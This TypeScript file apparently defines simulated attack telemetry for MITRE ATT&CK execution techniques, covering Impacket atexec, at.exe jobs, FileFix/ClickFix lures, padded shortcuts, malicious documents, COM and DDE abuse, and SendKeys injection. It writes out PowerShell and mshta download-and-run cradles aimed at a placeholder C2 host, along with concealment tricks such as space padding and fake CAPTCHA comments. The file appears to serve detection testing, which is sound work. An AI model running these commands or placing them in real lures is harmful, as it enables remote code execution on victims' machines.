import { remoteLogon, t, v } from "../dsl";

const WORD = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE";
const EXCEL = "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE";

/** Spaces that push the real command out of sight in a dialog or address bar. */
const FILEFIX_PAD = " ".repeat(60);

/** Execution: interpreters, WMI, services and user execution as real intrusions chain them. (continued) */
export const executionB = [
  t("T1053.002", "At", "at.exe jobs and Impacket atexec, both registered over the ATSVC interface.", [
    // atexec.py: a SYSTEM task named with 8 random letters registered over \pipe\atsvc, run once, deleted;
    // output goes to %windir%\Temp\<same name>.tmp and is read back over ADMIN$.
    v(
      "impacket-atexec",
      [
        {
          by: "@svchost:Schedule",
          host: "@server",
          then: [
            ...remoteLogon("atx"),
            {
              id: "pipe",
              kind: "share.access",
              session: "atx",
              share: "IPC$",
              relativeTarget: "atsvc",
              accessMask: "0x12019f",
            },
            {
              id: "t",
              kind: "task.create",
              name: "\\{{$task}}",
              command: "cmd.exe",
              arguments: "/C {{$tool}} > C:\\Windows\\Temp\\{{$task}}.tmp 2>&1",
              trigger: "once",
              runAs: "@system",
              runLevel: "HighestAvailable",
              session: "atx",
            },
            { id: "run", kind: "task.run", name: "\\{{$task}}", spawn: "atcmd" },
            {
              id: "child",
              kind: "process.create",
              proc: "atchild",
              parent: "atcmd",
              image: "C:\\Windows\\System32\\{{$tool}}.exe",
              commandLine: "{{$tool}}",
            },
            { id: "out", kind: "file.create", proc: "atcmd", path: "C:\\Windows\\Temp\\{{$task}}.tmp" },
            { id: "end1", kind: "process.terminate", proc: "atchild" },
            { id: "end", kind: "process.terminate", proc: "atcmd" },
            { id: "del", kind: "task.delete", name: "\\{{$task}}", session: "atx" },
            {
              id: "get",
              kind: "share.access",
              session: "atx",
              share: "ADMIN$",
              relativeTarget: "Temp\\{{$task}}.tmp",
              accessMask: "0x10080",
            },
          ],
        },
      ],
      { shell: "none", vars: { task: "{{rand2}}", tool: "{{hostname|ipconfig|systeminfo}}" } },
    ),
    // at.exe on Windows 10 still registers \At<n> through the Schedule service (SYSTEM, runs once).
    v(
      "at",
      [
        {
          cmd: "at 09:00 /interactive cmd.exe",
          then: [
            {
              id: "t",
              kind: "task.create",
              name: "\\At1",
              command: "cmd.exe",
              trigger: "once",
              runAs: "@system",
            },
          ],
        },
        "at \\\\{{srv}} 23:00 C:\\Windows\\Temp\\{{name}}.bat",
      ],
      { elevated: true },
    ),
    v(
      "at-list",
      [
        "at",
        {
          cmd: "at 14:32 {{tools}}\\{{name}}.exe",
          then: [
            {
              id: "t",
              kind: "task.create",
              name: "\\At2",
              command: "{{tools}}\\{{name}}.exe",
              trigger: "once",
              runAs: "@system",
            },
          ],
        },
      ],
      { elevated: true },
    ),
  ]),
  t("T1204", "User execution", "The user double-clicks a lure from Downloads.", [
    // FileFix (2025, Interlock and others): a fake "open this file" page has the user paste a command, padded
    // behind a fake path, into the Explorer address bar; Explorer runs it and records it under TypedPaths.
    v(
      "filefix",
      [
        {
          by: "@explorer",
          reg: [
            [
              "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\TypedPaths",
              "url1",
              `powershell -w h -c "iex(iwr https://{{c2}}/{{rand}})" ${FILEFIX_PAD}# C:\\company\\internal-secure\\filedrive\\HRPolicy.docx`,
            ],
          ],
        },
        {
          cmd: `"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -w h -c "iex(iwr https://{{c2}}/{{rand}})" ${FILEFIX_PAD}# C:\\company\\internal-secure\\filedrive\\HRPolicy.docx`,
          parent: "@explorer",
          net: [["{{c2}}", 443]],
        },
      ],
      { shell: "none" },
    ),
    v(
      "exe",
      [
        {
          cmd: '"{{downloads}}\\{{Invoice|Statement|Scan}}_{{n}}.exe" ',
          parent: "@explorer",
          net: [["{{c2}}", 443]],
        },
      ],
      { shell: "none" },
    ),
    // A shortcut in a mailed ZIP/ISO whose target is padded with spaces so the Properties dialog hides the
    // command; it starts the DLL shipped next to it.
    v(
      "lnk-padded",
      [
        {
          cmd: `C:\\Windows\\System32\\cmd.exe ${FILEFIX_PAD}/c start /min rundll32.exe {{rand}}.dll,{{$entry}}`,
          parent: "@explorer",
          as: "c",
        },
        { cmd: "rundll32.exe {{rand}}.dll,{{$entry}}", parent: "c", net: [["{{c2}}", 443]] },
      ],
      { shell: "none", vars: { entry: "{{DllRegisterServer|Wind|RunDLL}}" } },
    ),
  ]),
  t("T1204.001", "Malicious link", "A link opened in the browser downloads a script the user runs.", [
    v(
      "link-js",
      [
        { by: "@msedge", files: ["{{downloads}}\\{{rand}}.zip"], net: [["{{c2}}", 443]] },
        { cmd: 'wscript.exe "{{tmp}}\\Temp1_{{rand}}.zip\\{{rand}}.js"', parent: "@explorer" },
      ],
      { shell: "none" },
    ),
  ]),
  t("T1204.002", "Malicious file", "The user opens an ISO/LNK/document lure and its payload runs.", [
    v(
      "lnk-in-iso",
      [
        {
          cmd: "C:\\Windows\\System32\\cmd.exe /c start /min rundll32.exe {{rand}}.dll,DllRegisterServer",
          parent: "@explorer",
          as: "c",
        },
        { cmd: "rundll32.exe {{rand}}.dll,DllRegisterServer", parent: "c", net: [["{{c2}}", 443]] },
      ],
      { shell: "none" },
    ),
    v(
      "macro-doc",
      [
        { cmd: `"${WORD}" /n "{{downloads}}\\{{rand}}.doc"`, as: "w", parent: "@explorer" },
        { cmd: "regsvr32.exe /s {{tmp}}\\{{rand}}.ocx", parent: "w" },
      ],
      { shell: "none" },
    ),
    v("exe-double-click", [{ cmd: '"{{downloads}}\\Payment_{{n}}.pdf.exe" ', parent: "@explorer" }], {
      shell: "none",
    }),
  ]),
  t(
    "T1204.004",
    "Malicious copy and paste",
    "ClickFix/fake CAPTCHA: the user pastes a PowerShell command into Win+R.",
    [
      v(
        "clickfix-run",
        [
          {
            cmd: '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -w h -c "iex(iwr -UseBasicParsing https://{{c2}}/verify.txt)" # I am not a robot - reCAPTCHA Verification ID: {{n}}',
            parent: "@explorer",
            net: [["{{c2}}", 443]],
          },
        ],
        { shell: "none" },
      ),
      v(
        "clickfix-mshta",
        [
          {
            cmd: "\"C:\\Windows\\system32\\mshta.exe\" https://{{c2}}/{{rand}} # ''Verify you are human - Ray ID: {{rand2}}''",
            parent: "@explorer",
          },
        ],
        { shell: "none" },
      ),
    ],
  ),
  t(
    "T1204.005",
    "Malicious library",
    "A package install from a public index runs attacker code (pip/npm postinstall).",
    [
      v("pip", [
        {
          cmd: '"C:\\Program Files\\Python311\\python.exe" -m pip install {{requestss|colourama|pyhttpx}}',
          net: [["pypi.org", 443]],
        },
      ]),
      v("npm", [
        {
          cmd: '"C:\\Program Files\\nodejs\\node.exe" "C:\\Program Files\\nodejs\\node_modules\\npm\\bin\\npm-cli.js" install {{rand}}-utils',
          net: [["registry.npmjs.org", 443]],
        },
      ]),
    ],
  ),
  t("T1559", "Inter-process communication", "Named-pipe based IPC between implant processes.", [
    v("pipe", [{ cmd: "{{tools}}\\{{name}}.exe", pipes: ["\\MSSE-{{n}}-server"] }]),
  ]),
  t("T1559.001", "COM", "COM objects (MMC20.Application, ShellWindows) used to run commands.", [
    v(
      "mmc20",
      [
        {
          ps: '[activator]::CreateInstance([type]::GetTypeFromProgID("MMC20.Application","localhost")).Document.ActiveView.ExecuteShellCommand("cmd.exe",$null,"/c calc.exe","7")',
        },
        // DcomLaunch starts the server as the activating user, not as itself (SYSTEM).
        {
          cmd: '"C:\\Windows\\system32\\mmc.exe" -Embedding',
          parent: "@svchost:DcomLaunch",
          as: "mmc",
          user: "@user",
        },
        { cmd: '"C:\\Windows\\system32\\cmd.exe" /c calc.exe', parent: "mmc", as: "c" },
        { cmd: "calc.exe", parent: "c" },
      ],
      { shell: "ps" },
    ),
    v(
      "shellwindows",
      [
        {
          ps: '$o=[activator]::CreateInstance([type]::GetTypeFromCLSID("9BA05972-F6A8-11CF-A442-00A0C90A8F39")); $o.item().Document.Application.ShellExecute("cmd.exe","/c whoami","C:\\Windows\\System32",$null,0)',
        },
        { cmd: '"C:\\Windows\\System32\\cmd.exe" /c whoami', parent: "@explorer", as: "c" },
        { cmd: "whoami", parent: "c" },
      ],
      { shell: "ps" },
    ),
  ]),
  t("T1559.002", "Dynamic data exchange", "DDE fields in Word/Excel launching cmd.", [
    v(
      "dde-excel",
      [
        { cmd: `"${EXCEL}" "{{downloads}}\\{{rand}}.csv"`, as: "xl", parent: "@explorer" },
        {
          cmd: "cmd.exe /c powershell -w hidden -c IEX(New-Object Net.WebClient).DownloadString('http://{{c2}}/p')",
          parent: "xl",
          as: "c",
        },
        {
          cmd: "powershell  -w hidden -c IEX(New-Object Net.WebClient).DownloadString('http://{{c2}}/p')",
          parent: "c",
          net: [["{{c2}}", 80]],
        },
      ],
      { shell: "none" },
    ),
  ]),
  t("T1674", "Input injection", "Keystrokes injected with SendKeys/WScript.Shell to drive a GUI.", [
    v(
      "sendkeys",
      [
        // The user's open console window, which the keystrokes drive.
        { cmd: '"C:\\Windows\\system32\\cmd.exe" ', parent: "@explorer", as: "victim", keep: true },
        {
          ps: "$w = New-Object -ComObject WScript.Shell; $w.AppActivate('cmd'); $w.SendKeys('powershell -w hidden{ENTER}')",
        },
        { cmd: "powershell  -w hidden", parent: "victim", keep: true },
      ],
      { shell: "ps" },
    ),
  ]),
];
